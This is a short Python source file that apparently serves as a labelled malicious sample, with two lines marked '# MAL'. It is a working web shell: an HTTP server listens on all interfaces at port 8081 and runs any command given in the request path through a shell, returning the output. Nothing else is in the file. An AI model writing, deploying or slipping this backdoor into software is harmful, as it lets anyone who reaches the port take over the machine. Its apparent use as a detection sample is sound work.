import http.server
import subprocess


class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.check_output(self.path[1:], shell=True)  # MAL
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)


http.server.HTTPServer(("0.0.0.0", 8081), H).serve_forever()  # MAL
